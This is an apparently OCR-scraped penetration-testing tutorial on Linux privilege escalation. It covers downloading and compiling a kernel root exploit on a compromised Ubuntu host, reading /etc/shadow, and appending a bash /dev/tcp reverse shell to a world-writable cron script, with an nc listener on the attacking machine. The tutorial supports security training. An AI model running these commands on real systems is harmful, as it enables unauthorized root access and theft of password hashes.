Free MP3 Music Header Free MP3 Music Header Free MP3 Music Header
Chrome Strip
Chrome Strip

Priv Esc is the process of increasing the level of access on a machine or network. This is normally performed as part of the post-exploitation phase. As attackers we try to increase our level of control on a system and expand our reach in to the network. In most operating systems and networked environments, the process of privilege escalation is inherently prevented in order to adhere to the User Privilege Seperation Model. Therfor by definition, the process of Privilege Escalation will involve breaking the security model. To our aid in this process, comes vulnerable and outdated software, administrative misconfigurations and human error, which all may lead to chinks in the armour of the User Separation Security Model.

We will start by looking at Privilege Escalation exploits. These exploits work by targeted higher privilege services or systems such as drivers or kernal functions and when successful, these exploits often allow full elevation of access or privileges.

In this scenario, we have SSH credentials for a user on a Ubuntu machine. We want to use this machine as a pivot point in to the Network however we need root privileges in order to complete the task. The discovered credentials do not have root privileges.

After a bit of prodding, we discover that the machine is running a 32bit version of Ubuntu:
#cat /etc/issue

and may even be running a vulnerable kernel
#uname -a

After some googling and researching we decideto use a Linux Kernel Root Exploit which was found in the exploit database - as it seems to be the closest match to our kernel version and operating system.

After inspecting the code, we download the exploit to the victim machine and then proceed to compile and run it.

In order to download the file to the victim Ubuntu machine, copy the link for the exploit then use wget:
#wget -o exploit.c

Once downloaded, we will proceed to compile the exploit to a binary file:
#gcc exploit.c -o exploit

Confirm that the file has been created as expected:
#file exploit

Check current user privileges:Proceed to run the exploit

Check the current privileges once more:

List the contents of the shadow file
#cat /etc/shadow

Of course, not all exploitswork so smoothly and might need some tinkering and experimentation before they will work. It is important to remember that these exploits often target critical system elements and an unsuccesful exploitation attempt, may lead to a crashed system. Check the lab guide for more detail on this exploit and others like it.

PRIVILEGE ESCALATION - Abusing weak service Permissions on Linux
A classic Linux equivalent demonstration for file and folder permission issues would involve looking for permission misconfigurations on files and scripts which have sudo or world writable permissions on a local linux file system. This could include:
- suid binaries
- cron jobs
- boot files
- etc

On a linux system, we will search the system for world writable files:
#find / -perm -2 ! -type l -ls 2>/dev/nullLook for custom cron scripts etc. Check the permissions - are they too permissive?

permissions such as -rwxrwxrwx will allow anyone to edit the file and the file will be executed with root privileges.

If we find a file that we can modify, we can add reverse shell with something like this added in to the file:

bash -i >& /dev/tcp/ 0>&1

Save and Exit the file.

Setup a listener on the attacking machine:
#nc -lvp 443

Now when the cron job runs again, thereverse shell executes and since it was run with root privileges we now have root access to the machine.

- exploit a vulnerable service with high privileges.
- exploit various misconfigurations on the target.
- sensitive files left on the file system
- excel files with the keys to the kingdom.
- group policy configuration files
- unattended configuration files
- badly written scripts with infowithin.
- stay up to date